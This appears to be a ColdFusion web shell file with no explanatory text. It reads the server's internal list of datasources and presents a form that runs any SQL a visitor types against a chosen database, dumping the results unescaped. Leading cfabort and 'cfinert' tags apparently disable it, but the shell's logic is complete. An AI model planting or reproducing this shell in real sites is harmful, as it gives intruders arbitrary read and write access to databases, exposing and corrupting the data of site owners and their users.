<cfinert>
<cfabort>
<cfset ds = createObject("java", "coldfusion.server.ServiceFactory").getDataSourceService().getDatasources()>
<form method="post"><select name="ds"><cfloop collection="#ds#" item="d"><cfoutput><option>#d#</option></cfoutput></cfloop></select>
<textarea name="sql"></textarea><input type="submit"></form>
<cfif isDefined("form.sql")>
  <cfquery name="q" datasource="#form.ds#">#preserveSingleQuotes(form.sql)#</cfquery>
  <cfdump var="#q#">
</cfif>
